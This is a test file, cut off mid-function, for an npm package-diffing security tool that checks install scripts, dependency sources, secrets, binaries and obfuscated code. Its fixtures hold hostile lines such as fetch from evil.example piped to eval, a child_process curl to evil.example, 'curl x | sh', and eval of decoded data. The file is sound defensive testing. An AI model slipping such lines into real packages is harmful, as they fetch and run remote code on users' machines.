"""The diff rules on real npm tarballs: real releases pass untouched; each mutation trips exactly its rule."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gatekeeper._internal.tarball import read_package
from gatekeeper.diffing import DiffResult, added_lines, diff_packages, spec_kind
from gatekeeper.findings import Finding, Severity
from gatekeeper.trust.policy import Policy, parse_policy
from tests._support.tarballs import Entry, fixture, gz, make_tgz, mutate, package_json, tar_bytes

REAL_PAIRS = [
    ("ms-2.1.2", "ms-2.1.3"),
    ("debug-4.3.4", "debug-4.3.5"),
    ("semver-7.6.2", "semver-7.6.3"),
    ("left-pad-1.2.0", "left-pad-1.3.0"),
    ("chalk-5.3.0", "chalk-5.4.0"),
    ("esbuild-0.20.1", "esbuild-0.20.2"),
]


def load(path: Path, policy: Policy | None = None):
    return read_package(path, (policy or Policy()).diff.limits, label=path.name)


class Differ:
    """diff(base_fixture, tmp copy mutated) with a policy."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.n = 0

    def __call__(
        self,
        base: str,
        *,
        cand: str | None = None,
        policy: Policy | str | None = None,
        bump: str | None = None,
        files: dict[str, bytes | str] | None = None,
        remove: tuple[str, ...] = (),
        manifest: Callable[[dict[str, Any]], None] | None = None,
        modes: dict[str, int] | None = None,
    ) -> DiffResult:
        self.n += 1
        pol = parse_policy(policy) if isinstance(policy, str) else policy or Policy()
        src = fixture(cand or base)
        version = bump or _bumped(json.loads(_members_manifest(src))["version"]) if cand is None else bump

        def edit(doc: dict[str, Any]) -> None:
            if version:
                doc["version"] = version
            if manifest:
                manifest(doc)

        out = mutate(src, self.tmp / f"cand{self.n}.tgz", files=files, remove=remove, manifest=edit, modes=modes)
        return diff_packages(load(fixture(base), pol), load(out, pol), pol)


def _members_manifest(path: Path) -> bytes:
    from tests._support.tarballs import members

    return members(path)["package.json"][0]


def _bumped(version: str) -> str:
    major, minor, patch = (int(x) for x in version.split("-")[0].split("."))
    return f"{major}.{minor}.{patch + 1}"


@pytest.fixture
def differ(tmp_path: Path) -> Differ:
    return Differ(tmp_path)


def only(result: DiffResult, rule: str) -> list[Finding]:
    found = [f for f in result.findings if f.rule == rule]
    others = [f for f in result.findings if f.rule != rule]
    assert found, f"expected {rule}, got {result.findings}"
    assert not others, f"unexpected extra findings: {others}"
    return found


# ------------------------------------------------------------------ real releases


@pytest.mark.parametrize(("old", "new"), REAL_PAIRS)
def test_real_release_pairs_pass_untouched(old: str, new: str) -> None:
    result = diff_packages(load(fixture(old)), load(fixture(new)), Policy())
    assert result.findings == []
    assert result.files and result.baseline_version == old.rsplit("-", 1)[1]
    assert any(c.field == "version" for c in result.fields)


def test_install_code_that_only_embeds_the_new_version_is_not_a_code_change(differ: Differ) -> None:
    """esbuild's postinstall runs bin/esbuild (`validateBinaryVersion(process.execPath, toPath)` ->
    `execFileSync(command.shift(), command)`), and bin/esbuild runs lib/main.js through a computed script, so both
    are install code. 0.20.1 -> 0.20.2 changed them only by the version string they embed: the same code, no
    finding (else every esbuild release blocks). One more changed byte, and it is a code change again."""
    from tests._support.tarballs import members

    result = diff_packages(load(fixture("esbuild-0.20.1")), load(fixture("esbuild-0.20.2")), Policy())
    assert not result.findings, result.findings
    original = members(fixture("esbuild-0.20.2"))["bin/esbuild"][0]
    poisoned = original.replace(b'"0.20.2"', b'"0.20.2" + require("child_process").execSync("id")', 1)
    assert poisoned != original
    result = differ("esbuild-0.20.1", cand="esbuild-0.20.2", files={"bin/esbuild": poisoned})
    (f,) = only(result, "install-script-code-changed")
    assert f.file == "bin/esbuild" and "execFileSync(command.shift()" in f.message


def test_a_file_that_the_embedded_version_selects_is_still_install_code(tmp_path: Path) -> None:
    """install.js changes only by its embedded version (no finding for it), but that version now selects another
    file to load: the new file is install code and blocks."""

    def release(version: str, lib: dict[str, str]) -> Path:
        manifest = {"name": "x", "version": version, "scripts": {"postinstall": "node install.js"}}
        files = {
            "package.json": json.dumps(manifest),
            "install.js": f'require("./lib/" + "{version}" + ".js")\n',
            **lib,
        }
        return make_tgz(files, tmp_path / f"x-{version}.tgz")

    same = {"lib/1.0.0.js": "module.exports = 1\n"}
    old = release("1.0.0", same)
    new = release("1.0.1", {**same, "lib/1.0.1.js": "require('child_process').execSync('id')\n"})
    result = diff_packages(load(old), load(new), Policy())
    assert [(f.rule, f.file) for f in result.findings if f.blocks] == [("install-script-code-changed", "lib/1.0.1.js")]


def test_delta_lists_files_with_sizes_and_fields(differ: Differ) -> None:
    result = differ(
        "left-pad-1.2.0",
        cand="left-pad-1.3.0",
        files={"lib/new.txt": "hello"},
        manifest=lambda d: d.update(description="changed"),
    )
    by = {f.path: f for f in result.files}
    assert by["lib/new.txt"].status == "added" and by["lib/new.txt"].new_size == 5
    assert by[".npmignore"].status == "removed" and by[".npmignore"].old_size == 27
    assert "index.js" not in by  # unchanged files are not part of the delta
    fields = {c.field: c for c in result.fields}
    assert fields["description"].new == "changed" and fields["description"].line is not None
    text, md = result.to_text(), result.to_markdown()
    for out in (text, md):
        assert "lib/new.txt" in out and ".npmignore" in out and "description" in out
    assert "+ lib/new.txt  5 B" in text and "- .npmignore  27 B" in text
    assert result.summary()["added"] == 1 and result.summary()["removed"] == 1


def test_mode_change_is_part_of_the_delta(differ: Differ) -> None:
    result = differ("ms-2.1.2", cand="ms-2.1.2", bump="2.1.3", modes={"index.js": 0o755})
    assert [(f.path, f.status) for f in result.files if f.path == "index.js"] == [("index.js", "mode")]


# ------------------------------------------------------------------ lifecycle scripts


def add_script(name: str, command: str) -> Callable[[dict[str, Any]], None]:
    return lambda d: d.setdefault("scripts", {}).__setitem__(name, command)


@pytest.mark.parametrize("script", ["preinstall", "install", "postinstall"])
def test_install_script_added_blocks_with_evidence_and_line(differ: Differ, script: str) -> None:
    result = differ("ms-2.1.2", manifest=add_script(script, "node evil.js"))
    (f,) = only(result, "lifecycle-script-added")
    assert f.severity is Severity.BLOCK and '"node evil.js"' in f.message and script in f.message
    assert f.file == "package.json" and f.line is not None


def test_key_line_is_the_line_of_the_script_in_package_json(differ: Differ, tmp_path: Path) -> None:
    result = differ("ms-2.1.2", manifest=add_script("postinstall", "node evil.js"))
    f = result.findings[0]
    cand = tmp_path / f"cand{differ.n}.tgz"
    text = load(cand).manifest_text.splitlines()
    assert '"postinstall"' in text[(f.line or 0) - 1]


def test_prepare_added_only_warns(differ: Differ) -> None:
    (f,) = only(differ("ms-2.1.2", manifest=add_script("prepare", "node build.js")), "lifecycle-script-added")
    assert f.severity is Severity.WARN


def test_install_script_changed_and_removed(differ: Differ) -> None:
    changed = differ("esbuild-0.20.1", cand="esbuild-0.20.2", manifest=add_script("postinstall", "node install.js --x"))
    (f,) = only(changed, "lifecycle-script-changed")
    assert '"node install.js" -> "node install.js --x"' in f.message and f.blocks
    removed = differ("esbuild-0.20.1", cand="esbuild-0.20.2", manifest=lambda d: d.pop("scripts"))
    (g,) = only(removed, "lifecycle-script-removed")
    assert '"node install.js"' in g.message and g.blocks


def test_exact_script_approval_passes_only_as_written(differ: Differ) -> None:
    policy = 'approve:\n  scripts:\n    postinstall: "node install.js"\n'
    ok = differ("ms-2.1.2", policy=policy, manifest=add_script("postinstall", "node install.js"))
    (f,) = only(ok, "approved-change")
    assert f.severity is Severity.INFO and "approve.scripts.postinstall" in f.message
    for other in ("node  install.js", "node install.js && curl x | sh", "node install.cjs"):
        bad = differ("ms-2.1.2", policy=policy, manifest=add_script("postinstall", other))
        (g,) = only(bad, "lifecycle-script-added")
        assert g.blocks and "does not match" in g.message


def test_script_removal_is_approved_with_an_empty_command(differ: Differ) -> None:
    result = differ(
        "esbuild-0.20.1",
        cand="esbuild-0.20.2",
        policy='approve: {scripts: {postinstall: ""}}',
        manifest=lambda d: d.pop("scripts"),
    )
    assert [f.rule for f in result.findings] == ["approved-change"]


# ------------------------------------------------------------------ install-time code


def test_unchanged_command_running_changed_file_blocks(differ: Differ) -> None:
    result = differ(
        "esbuild-0.20.1", cand="esbuild-0.20.2", files={"install.js": "// new\nrequire('child_process');\n"}
    )
    (f,) = only(result, "install-script-code-changed")
    assert f.file == "install.js" and f.line == 1 and "node install.js" in f.message and "changed" in f.message


def test_first_changed_line_is_reported(differ: Differ) -> None:
    from tests._support.tarballs import members

    original = members(fixture("esbuild-0.20.2"))["install.js"][0]
    lines = original.split(b"\n")
    lines[40] = b"fetch('https://evil.example/x').then(eval);"
    result = differ("esbuild-0.20.1", cand="esbuild-0.20.2", files={"install.js": b"\n".join(lines)})
    (f,) = only(result, "install-script-code-changed")
    assert f.file == "install.js" and f.line == 41


def test_transitive_requires_of_the_install_script(differ: Differ) -> None:
    base = differ.tmp / "base.tgz"
    files = {
        "package.json": package_json(scripts={"postinstall": "node ./scripts/postinstall"}),
        "scripts/postinstall.js": "const h = require('./helper');\nrequire('../lib')\n",
        "scripts/helper.js": "module.exports = require(require('path').join(__dirname, 'deep.js'))\n",
        "scripts/deep.js": "module.exports = 1\n",
        "lib/index.js": "module.exports = 2\n",
        "lib/other.js": "unrelated\n",
    }
    make_tgz(files, base)
    for changed, via in [
        ("scripts/deep.js", "scripts/helper.js"),
        ("lib/index.js", "scripts/postinstall.js"),
        ("scripts/postinstall.js", None),
    ]:
        cand = make_tgz(
            {
                **files,
                changed: files[changed] + "// changed\n",
                "package.json": files["package.json"].replace("1.0.0", "1.0.1"),
            },
            differ.tmp / "c.tgz",
        )
        result = diff_packages(load(base), load(cand), Policy())
        (f,) = only(result, "install-script-code-changed")
        assert f.file == changed and (via is None or via in f.message)
    cand = make_tgz(
        {**files, "lib/other.js": "changed\n", "package.json": files["package.json"].replace("1.0.0", "1.0.1")},
        differ.tmp / "c2.tgz",
    )
    assert diff_packages(load(base), load(cand), Policy()).findings == []


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        ("node -e \"try{require('./postinstall')}catch(e){}\"", "postinstall.js"),
        ("FOO=1 node --require ./hook.js x.js", "hook.js"),
        ("sh ./setup.sh", "setup.sh"),
        ("bash -c 'node x.js'", "x.js"),
        ("./setup.sh && echo ok", "setup.sh"),
        ("node .", "main.js"),
        ("cross-env A=b node x", "x.js"),
    ],
)
def test_command_forms_that_run_package_files(differ: Differ, command: str, runs: str) -> None:
    files = {
        "package.json": package_json(main="main.js", scripts={"install": command}),
        "postinstall.js": "a\n",
        "hook.js": "a\n",
        "setup.sh": "a\n",
        "x.js": "a\n",
        "main.js": "a\n",
    }
    base = make_tgz(files, differ.tmp / "b.tgz")
    cand = make_tgz(
        {**files, runs: "b\n", "package.json": files["package.json"].replace("1.0.0", "1.0.1")}, differ.tmp / "c.tgz"
    )
    (f,) = only(diff_packages(load(base), load(cand), Policy()), "install-script-code-changed")
    assert f.file == runs


def test_npm_run_of_a_changed_script_is_install_code(differ: Differ) -> None:
    result = differ(
        "ms-2.1.2",
        manifest=lambda d: d["scripts"].update(postinstall="npm run setup", setup="node a.js"),
    )
    assert {f.rule for f in result.findings} == {"lifecycle-script-added", "install-script-code-changed"}
    code = next(f for f in result.findings if f.rule == "install-script-code-changed")
    assert "setup" in code.message and '"node a.js"' in code.message


REVIEWED_JS = hashlib.sha256(b"// reviewed\n").hexdigest()


def test_install_file_approval_by_path(differ: Differ) -> None:
    result = differ(
        "esbuild-0.20.1",
        cand="esbuild-0.20.2",
        policy=f"approve: {{files: [{{path: install.js, sha256: {REVIEWED_JS}}}]}}",
        files={"install.js": "// reviewed\n"},
    )
    assert [f.rule for f in result.findings] == ["approved-change"]


# ------------------------------------------------------------------ native build


def test_binding_gyp_added_without_install_script(differ: Differ) -> None:
    (f,) = only(differ("ms-2.1.2", files={"binding.gyp": "{'targets': []}"}), "native-build-added")
    assert "node-gyp rebuild" in f.message and f.file == "binding.gyp"
    assert differ("ms-2.1.2", files={"binding.gyp": "{}"}, manifest=lambda d: d.update(gypfile=False)).findings == []
    gyp = hashlib.sha256(b"{}").hexdigest()
    approved = differ(
        "ms-2.1.2", policy=f"approve: {{files: [{{path: binding.gyp, sha256: {gyp}}}]}}", files={"binding.gyp": "{}"}
    )
    assert [f.rule for f in approved.findings] == ["approved-change"]


def test_gypfile_turning_on(differ: Differ, tmp_path: Path) -> None:
    files = {"package.json": package_json(gypfile=False), "binding.gyp": "{}"}
    base = make_tgz(files, tmp_path / "b.tgz")
    cand = make_tgz({**files, "package.json": package_json(version="1.0.1")}, tmp_path / "c.tgz")
    (f,) = only(diff_packages(load(base), load(cand), Policy()), "native-build-added")
    assert "gypfile turned on" in f.message


# ------------------------------------------------------------------ dependencies


def test_dependency_added_blocks_in_patch_warns_in_minor(differ: Differ) -> None:
    add = lambda d: d["dependencies"].update({"left-pad": "^1.3.0"})  # noqa: E731
    (patch,) = only(differ("debug-4.3.4", cand="debug-4.3.5", manifest=add), "dependency-added")
    assert patch.blocks and '"left-pad"' in patch.message and "patch release" in patch.message and patch.line
    (minor,) = only(differ("debug-4.3.4", cand="debug-4.3.5", bump="4.4.0", manifest=add), "dependency-added")
    assert minor.severity is Severity.WARN
    approved = differ("debug-4.3.4", cand="debug-4.3.5", policy="approve: {dependencies: [left-pad]}", manifest=add)
    assert [f.rule for f in approved.findings] == ["approved-change"]
    other = differ("debug-4.3.4", cand="debug-4.3.5", policy="approve: {dependencies: [left-pads]}", manifest=add)
    assert [f.rule for f in other.findings] == ["dependency-added"]


def test_dependency_moved_between_sections_is_not_added(differ: Differ) -> None:
    def move(d: dict[str, Any]) -> None:
        d["optionalDependencies"] = d.pop("dependencies")

    assert differ("debug-4.3.4", cand="debug-4.3.5", manifest=move).findings == []


def test_an_optional_peer_made_a_dependency_is_added(tmp_path: Path) -> None:
    """An optional peer (peerDependenciesMeta optional) is installed by no consumer; moving it to `dependencies`
    makes every consumer install it: that is a new dependency, not a move (a release could pre-seed a name as an
    optional peer and make it a dependency in a later patch release)."""
    meta = {"peerDependenciesMeta": {"evil": {"optional": True}}}
    base = make_tgz({"package.json": package_json(peerDependencies={"evil": "*"}, **meta)}, tmp_path / "b.tgz")
    cand = make_tgz({"package.json": package_json(version="1.0.1", dependencies={"evil": "*"})}, tmp_path / "c.tgz")
    (f,) = only(diff_packages(load(base), load(cand), Policy()), "dependency-added")
    assert f.blocks and '"evil"' in f.message
    # a required peer (npm 7+ installs it) moved to dependencies stays a move; an optional peer kept optional too
    required = make_tgz({"package.json": package_json(peerDependencies={"evil": "*"})}, tmp_path / "r.tgz")
    assert diff_packages(load(required), load(cand), Policy()).findings == []
    kept = make_tgz(
        {"package.json": package_json(version="1.0.1", peerDependencies={"evil": "^1"}, **meta)}, tmp_path / "k.tgz"
    )
    assert diff_packages(load(base), load(kept), Policy()).findings == []


@pytest.mark.parametrize(
    ("spec", "kind"),
    [
        ("^1.2.3", "registry"),
        ("latest", "registry"),
        ("1.x || >=2.5.0", "registry"),
        ("*", "registry"),
        ("github:user/repo", "git"),
        ("user/repo#v1", "git"),
        ("git+https://host/x.git", "git"),
        ("https://host/x.git#main", "git"),
        ("https://host/x.tgz", "url"),
        ("file:../x", "file"),
        ("link:../x", "file"),
        ("./local", "file"),
        ("npm:evil@1.0.0", "alias"),
        ("workspace:*", "workspace"),
        ("~1.3.8", "registry"),
        ("~/pkgs/x", "file"),
        ("/abs/x", "file"),
        ("C:\\x", "file"),
    ],
)
def test_spec_kind(spec: str, kind: str) -> None:
    assert spec_kind(spec) == kind


@pytest.mark.parametrize("spec", ["github:attacker/ms", "https://evil.example/ms.tgz", "npm:evil-ms@2.1.2", "../ms"])
def test_dependency_source_changed(differ: Differ, spec: str) -> None:
    result = differ("debug-4.3.4", cand="debug-4.3.5", manifest=lambda d: d["dependencies"].update(ms=spec))
    (f,) = only(result, "dependency-source-changed")
    assert json.dumps(spec) in f.message and '(was "2.1.2")' in f.message and f.blocks and f.line
    ok = differ(
        "debug-4.3.4",
        cand="debug-4.3.5",
        policy=f"approve: {{sources: {{ms: {json.dumps(spec)}}}}}",
        manifest=lambda d: d["dependencies"].update(ms=spec),
    )
    assert [f.rule for f in ok.findings] == ["approved-change"]
    wrong = differ(
        "debug-4.3.4",
        cand="debug-4.3.5",
        policy='approve: {sources: {ms: "github:attacker/ms#other"}}',
        manifest=lambda d: d["dependencies"].update(ms=spec),
    )
    assert [f.rule for f in wrong.findings] == ["dependency-source-changed"]


def test_unchanged_non_registry_source_passes(tmp_path: Path) -> None:
    files = {"package.json": package_json(dependencies={"x": "github:o/x#v1"})}
    base = make_tgz(files, tmp_path / "b.tgz")
    cand = make_tgz(
        {"package.json": package_json(version="1.0.1", dependencies={"x": "github:o/x#v1"})}, tmp_path / "c.tgz"
    )
    assert diff_packages(load(base), load(cand), Policy()).findings == []


def test_peer_dependency_from_git(differ: Differ) -> None:
    result = differ("ms-2.1.2", bump="2.2.0", manifest=lambda d: d.update(peerDependencies={"x": "git://h/x.git"}))
    assert {f.rule for f in result.findings} == {"dependency-added", "dependency-source-changed"}


def test_bundled_dependencies(differ: Differ, tmp_path: Path) -> None:
    result = differ(
        "debug-4.3.4",
        cand="debug-4.3.5",
        manifest=lambda d: d.update(bundleDependencies=["ms"]),
        files={"node_modules/ms/index.js": "module.exports = 1\n"},
    )
    (f,) = only(result, "bundled-dependencies-changed")
    assert '"ms" added to the bundle' in f.message
    files = {
        "package.json": package_json(dependencies={"ms": "1"}, bundleDependencies=["ms"]),
        "node_modules/ms/index.js": "a\n",
        "node_modules/ms/package.json": '{"name":"ms","version":"1.0.0"}',
    }
    base = make_tgz(files, tmp_path / "b.tgz")
    cand = make_tgz(
        {**files, "package.json": files["package.json"].replace("1.0.0", "1.0.1"), "node_modules/ms/index.js": "b\n"},
        tmp_path / "c.tgz",
    )
    (g,) = only(diff_packages(load(base), load(cand), Policy()), "bundled-dependencies-changed")
    assert "bundled code changed" in g.message


@pytest.mark.parametrize(
    "spelling",
    [{"bundleDependencies": {"ms": "2.1.3"}}, {"bundledDependencies": {"ms": True}}],
    ids=["object", "typo-spelling-object"],
)
def test_bundled_dependencies_in_object_form_are_seen_as_npm_normalises_them(
    differ: Differ, spelling: dict[str, object]
) -> None:
    """npm turns an object `bundleDependencies` into its keys (and reads `bundledDependencies` when the other is
    absent): a bundle added that way, with an install script in the bundled copy, must not go unseen."""
    result = differ(
        "debug-4.3.4",
        cand="debug-4.3.5",
        manifest=lambda d: d.update(spelling),
        files={
            "node_modules/ms/package.json": '{"name":"ms","version":"2.1.3","scripts":{"postinstall":"node x.js"}}',
            "node_modules/ms/x.js": "require('child_process').exec('curl evil')\n",
        },
    )
    (f,) = only(result, "bundled-dependencies-changed")
    assert '"ms" added to the bundle' in f.message


def test_a_dependency_shipped_under_node_modules_without_bundling_is_reported(tmp_path: Path) -> None:
    """npm pack never ships an unlisted node_modules/, but npm installs one from a (crafted) tarball, and require()
    from the package finds it before the real dependency (checked with the real npm in the attack notes)."""
    manifest = package_json(dependencies={"ms": "^2.1.0"})
    files = {"package.json": manifest, "index.js": "module.exports = require('ms')\n"}
    base = make_tgz(files, tmp_path / "b.tgz")
    cand = make_tgz(
        {
            **files,
            "package.json": package_json(version="1.0.1", dependencies={"ms": "^2.1.0"}),
            "node_modules/ms/package.json": '{"name":"ms","version":"2.1.3"}',
            "node_modules/ms/index.js": "require('child_process').exec('curl https://evil.example')\n",
        },
        tmp_path / "c.tgz",
    )
    (f,) = only(diff_packages(load(base), load(cand), Policy()), "bundled-dependencies-changed")
    assert f.blocks and '"ms" added to the bundle' in f.message and "without being in bundleDependencies" in f.message


# ------------------------------------------------------------------ bin and entry points


def test_bin_retargeted_or_added(differ: Differ) -> None:
    (f,) = only(
        differ(
            "semver-7.6.2",
            cand="semver-7.6.3",
            manifest=lambda d: d["bin"].update(semver="bin/x.js"),
            files={"bin/x.js": "x\n"},
        ),
        "bin-changed",
    )
    assert '"bin/semver.js" -> "bin/x.js"' in f.message and f.line
    (g,) = only(
        differ("semver-7.6.2", cand="semver-7.6.3", manifest=lambda d: d["bin"].update(other="./bin/semver.js")),
        "bin-changed",
    )
    assert '"other" added' in g.message
    ok = differ(
        "semver-7.6.2",
        cand="semver-7.6.3",
        policy='approve: {bin: {other: "bin/semver.js"}}',
        manifest=lambda d: d["bin"].update(other="./bin/semver.js"),
    )
    assert [f.rule for f in ok.findings] == ["approved-change"]


def test_entrypoint_pointing_at_a_new_file_warns(differ: Differ) -> None:
    result = differ(
        "chalk-5.3.0",
        cand="chalk-5.4.0",
        files={"source/evil.js": "export default 1\n"},
        manifest=lambda d: d.update(exports="./source/evil.js"),
    )
    (f,) = only(result, "entrypoint-changed")
    assert f.severity is Severity.WARN and '"source/evil.js"' in f.message and "added in this release" in f.message
    main = differ("ms-2.1.2", manifest=lambda d: d.update(main="other.js"), files={"other.js": "1\n"})
    assert [f.rule for f in main.findings] == ["entrypoint-changed"]


# ------------------------------------------------------------------ sensitive files and secrets


@pytest.mark.parametrize(
    "path", [".npmrc", ".env", ".env.production", "certs/server.pem", "id_rsa", "keys/id_ed25519", ".git/config"]
)
def test_sensitive_paths(differ: Differ, path: str) -> None:
    (f,) = only(differ("ms-2.1.2", files={path: "x"}), "sensitive-file")
    assert f.file == path and f.blocks


def test_harmless_lookalikes_pass(differ: Differ) -> None:
    result = differ("ms-2.1.2", files={".env.example": "A=1", "id_rsa.pub": "ssh-rsa AAAA", ".gitignore": "x"})
    assert result.findings == []


def real_private_key(fmt: str = "openssh") -> str:
    """A freshly generated private key (ed25519, the smallest), PEM/OpenSSH text, by the real `cryptography`."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519, rsa

    if fmt == "rsa":
        key: Any = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        form = serialization.PrivateFormat.TraditionalOpenSSL
    else:
        key = ed25519.Ed25519PrivateKey.generate()
        form = serialization.PrivateFormat.OpenSSH if fmt == "openssh" else serialization.PrivateFormat.PKCS8
    return key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption()).decode()


TOKENS = {
    "npm": "npm_" + "a1B2" * 9,
    "github": "ghp_" + "Z9y8" * 9,
    "aws": "AKIA" + "ABCDEFGHIJKLMNOP",
    "key": real_private_key().replace("\n", "\\n"),  # inside a JS string: `\n` escapes
    "npmrc": "//registry.npmjs.org/:_authToken=abcdef0123456789abcdef",
}


@pytest.mark.parametrize("kind", TOKENS)
def test_credentials_in_added_lines_of_changed_files(differ: Differ, kind: str) -> None:
    from tests._support.tarballs import members

    original = members(fixture("ms-2.1.3"))["index.js"][0].decode()
    lines = original.split("\n")
    lines.insert(20, f"var t = '{TOKENS[kind]}';")
    result = differ("ms-2.1.2", cand="ms-2.1.3", bump="2.1.4", files={"index.js": "\n".join(lines)})
    (f,) = only(result, "sensitive-file")
    assert f.file == "index.js" and f.line == 21
    if kind != "key":
        assert TOKENS[kind] not in f.message  # masked


#: next 16.5.0's documentation placeholder that blocked next 16.4.6 -> 16.5.0 (issue 20, item 6).
NEXT_PLACEHOLDER = "-----BEGIN RSA PRIVATE KEY-----\\n...\\n-----END DSA PRIVATE KEY-----"


@pytest.mark.parametrize(
    "text",
    [
        f'Set `KEY` to your key, e.g. `KEY="{NEXT_PLACEHOLDER}"`.\n',
        NEXT_PLACEHOLDER.replace("\\n", "\n") + "\n",  # the same with real newlines
        "```\n-----BEGIN PRIVATE KEY-----\n<your key here>\n-----END PRIVATE KEY-----\n```\n",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nMIIEpAIBAAKCAQEA...\n-----END OPENSSH PRIVATE KEY-----\n",
        "if (text.startsWith('-----BEGIN RSA PRIVATE KEY-----')) { format = 'pkcs1' }\n",
    ],
    ids=["next-docs", "real-newlines", "your-key-here", "truncated-example", "parser-code"],
)
def test_a_pem_header_without_key_material_is_not_a_private_key(differ: Differ, text: str) -> None:
    result = differ("ms-2.1.2", files={"docs/keys.md": text, "lib/pem.js": text})
    assert result.findings == [], [f.message for f in result.findings]


@pytest.mark.parametrize("fmt", ["openssh", "pkcs8", "rsa"])
def test_a_real_private_key_still_blocks_even_after_a_placeholder(differ: Differ, fmt: str) -> None:
    key = real_private_key(fmt)
    (f,) = only(differ("ms-2.1.2", files={"docs/keys.md": key}), "sensitive-file")
    assert f.file == "docs/keys.md" and f.line == 1 and f.blocks
    text = f"Example:\n\n{NEXT_PLACEHOLDER}\n\nOops, the real one:\n\n{key}"
    (f,) = only(differ("ms-2.1.2", files={"docs/setup.md": text}), "sensitive-file")
    assert f.line == 7, f.message  # the real key's line, not the placeholder's


def test_aws_documentation_example_key_is_ignored(differ: Differ) -> None:
    assert differ("ms-2.1.2", files={"docs.md": "AKIAIOSFODNN7EXAMPLE"}).findings == []


def test_credentials_already_in_the_baseline_are_not_reported_again(tmp_path: Path) -> None:
    files = {"package.json": package_json(), "a.js": f"x = '{TOKENS['npm']}'\n"}
    base = make_tgz(files, tmp_path / "b.tgz")
    cand = make_tgz(
        {**files, "package.json": package_json(version="1.0.1"), "a.js": files["a.js"] + "y = 1\n"}, tmp_path / "c.tgz"
    )
    assert diff_packages(load(base), load(cand), Policy()).findings == []


# ------------------------------------------------------------------ binaries


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\x7fELF\x02\x01\x01" + bytes(100), "ELF"),
        (b"\xcf\xfa\xed\xfe" + bytes(100), "Mach-O"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(100), "universal Mach-O"),
        (b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\0\0" + bytes(50), "PE"),
    ],
)
def test_executable_binaries(differ: Differ, data: bytes, kind: str) -> None:
    (f,) = only(differ("ms-2.1.2", files={"bin/tool": data}), "executable-binary-added")
    assert kind in f.message and f.file == "bin/tool"
    digest = hashlib.sha256(data).hexdigest()
    ok = differ(
        "ms-2.1.2", files={"bin/tool": data}, policy=f"approve: {{files: [{{path: bin/tool, sha256: {digest}}}]}}"
    )
    assert [f.rule for f in ok.findings] == ["approved-change"]


def test_node_addon_and_not_java_class(differ: Differ) -> None:
    (f,) = only(differ("ms-2.1.2", files={"build/Release/addon.node": b"\0\0"}), "executable-binary-added")
    assert ".node" in f.message
    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(20)
    assert differ("ms-2.1.2", files={"A.class": java, "MZ.txt": "MZ is just text here"}).findings == []


# ------------------------------------------------------------------ obfuscated code


CHALK = "source/index.js"


def chalk_with(extra: str, at: int = 10) -> str:
    from tests._support.tarballs import members

    lines = members(fixture("chalk-5.4.0"))[CHALK][0].decode().split("\n")
    lines.insert(at, extra)
    return "\n".join(lines)


@pytest.mark.parametrize(
    ("code", "label"),
    [
        ("eval(Buffer.from(process.env.npm_package_description, 'hex').toString());", "eval/Function/vm"),
        ("new Function(atob('ZG9jdW1lbnQ='))();", "eval/Function/vm"),
        ("require('vm').runInThisContext(decodeURIComponent('%61'));", "eval/Function/vm"),
        ("const p = '" + "QUJD" * 400 + "';", "base64/hex"),
        ("const p = '" + "ab" * 500 + "';", "base64/hex"),
        ("var s = '\\x65\\x76\\x61\\x6c\\x28\\x31\\x29\\x3b\\x20';", "escaped"),
        ("var s = '\\u0065\\u0076\\u0061\\u006c\\u0028\\u0031\\u0029\\u003b';", "escaped"),
        ("var _0x1a2b=1,_0x3c4d=2,_0x5e6f=3,_0x7a8b=4,_0x9c0d=_0x1a2b+_0x3c4d;", "_0x identifiers"),
        ("var a=" + "1+" * 2000 + "1;", "not minified before"),
    ],
)
def test_obfuscation_signals_in_changed_js(differ: Differ, code: str, label: str) -> None:
    result = differ("chalk-5.3.0", cand="chalk-5.4.0", files={CHALK: chalk_with(code)})
    (f,) = only(result, "obfuscated-code")
    assert label in f.message and f.file == CHALK and f.line == 11 and f.blocks


def test_unicode_range_tables_are_not_obfuscation(differ: Differ) -> None:
    table = "var r = /[" + "".join(f"\\u{0x5B0 + i:04X}" for i in range(40)) + "]/;\n"
    assert differ("ms-2.1.2", files={"lib/ranges.js": table}).findings == []


def test_obfuscation_signal_in_an_added_js_file(differ: Differ) -> None:
    (f,) = only(differ("ms-2.1.2", files={"lib/x.js": "\n\neval(atob('YQ=='))\n"}), "obfuscated-code")
    assert f.line == 3
    assert differ("ms-2.1.2", files={"lib/x.txt": "eval(atob('YQ=='))"}).findings == []


def test_signal_already_in_the_previous_release_is_not_new(tmp_path: Path) -> None:
    blob = "'" + "QUJD" * 400 + "'"
    files = {"package.json": package_json(), "wasm.js": f"module.exports = {blob};\n"}
    base = make_tgz(files, tmp_path / "b.tgz")
    cand = make_tgz(
        {"package.json": package_json(version="1.0.1"), "wasm.js": f"module.exports = {blob[:-5]}AAAA';\n"},
        tmp_path / "c.tgz",
    )
    assert diff_packages(load(base), load(cand), Policy()).findings == []


def test_long_lines_in_an_already_minified_file_pass(tmp_path: Path) -> None:
    files = {"package.json": package_json(), "dist/x.min.js": "var a=" + "1+" * 2000 + "1;\n"}
    base = make_tgz(files, tmp_path / "b.tgz")
    cand = make_tgz(
        {"package.json": package_json(version="1.0.1"), "dist/x.min.js": "var b=" + "2+" * 2000 + "2;\n"},
        tmp_path / "c.tgz",
    )
    assert diff_packages(load(base), load(cand), Policy()).findings == []


def _wasm_base64(seed: int) -> str:
    """A WebAssembly module (magic, version, a 900-byte custom section) as the base64 a bundler inlines."""
    import base64

    payload = bytes((seed * 7 + i) % 251 for i in range(900))
    section = b"\x04seed" + payload
    module = b"\0asm\1\0\0\0" + b"\0" + bytes([0x80 | (len(section) & 0x7F), len(section) >> 7]) + section
    return base64.b64encode(module).decode()


def _release(tmp_path: Path, name: str, version: str, files: dict[str, str]) -> Path:
    return make_tgz({"package.json": package_json(version=version), **files}, tmp_path / f"{name}.tgz")


def _diff(tmp_path: Path, old: dict[str, str], new: dict[str, str]) -> DiffResult:
    return diff_packages(
